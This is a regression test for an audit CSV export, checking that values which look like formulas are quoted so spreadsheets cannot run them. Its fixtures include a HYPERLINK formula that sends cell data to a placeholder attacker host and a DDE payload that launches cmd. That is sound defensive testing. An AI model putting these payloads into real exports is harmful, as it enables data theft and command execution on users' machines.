/**
 * Regression (issue 13, item 3): the audit export emitted cells starting with = + - @, tab or CR
 * raw, and a PFA id, an actor or a reason can be chosen by a user, so opening the export in a
 * spreadsheet ran them as formulas. Each is now a quoted text cell with a leading quote mark.
 */
import { appendAudit } from '../../connectors/postgres/audit';
import { call, createOrg, harness, type Harness, type TestOrg } from '../integration/control-api/harness';

describe('regression: no formula reaches a spreadsheet through the audit CSV export', () => {
  let h: Harness;
  let org: TestOrg;
  const hostile = {
    pfaId: '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    actor: '@SUM(1+1)*cmd|" /C calc"!A0',
    eventType: '+sync.write',
    reason: '-2+3',
    tab: '\t=1',
    cr: '\r=1',
  };

  beforeAll(async () => {
    h = await harness();
    org = await createOrg(h.db, 'CSVINJ');
    await appendAudit(h.db, [
      { organizationId: org.id, pfaId: 'PFA-1', actor: org.syncer, eventType: 'sync.write', details: { n: 1 } },
      {
        organizationId: org.id,
        pfaId: hostile.pfaId,
        actor: hostile.actor,
        eventType: hostile.eventType,
        details: { reason: hostile.reason },
      },
      { organizationId: org.id, pfaId: hostile.tab, actor: hostile.cr, eventType: 'sync.write', details: { n: 3 } },
    ]);
  });
  afterAll(async () => {
    await h.close();
  });

  it('when entries carry formula-looking text, then every such cell is a quoted text cell and the other entries are intact', async () => {
    const res = await call(h, org.reader, 'GET', `/audit/export?organization=${org.id}&format=csv`);
    expect(res.statusCode).toBe(200);
    const body = res.body;
    // No cell (after the start, a separator or a record end) begins with a formula character.
    expect(body).not.toMatch(/(^|,|\r\n)[=+\-@\t\r]/);
    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")"`);
    expect(body).toContain(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`);
    expect(body).toContain(`"'+sync.write"`);
    expect(body).toContain(`"'\t=1"`);
    expect(body).toContain(`"'\r=1"`);
    // JSON details start with {: untouched, the reason inside them is not a cell of its own.
    expect(body).toContain('"{""reason"": ""-2+3""}"');
    // Nothing lost: three entries plus the header, the plain one as it was.
    expect(body.split('\r\n').filter((l) => l.length > 0)).toHaveLength(4);
    expect(body).toMatch(/\r\n\d+,[^,]+,[^,]+,PFA-1,,[^,]+,sync\.write,/);
  });
});
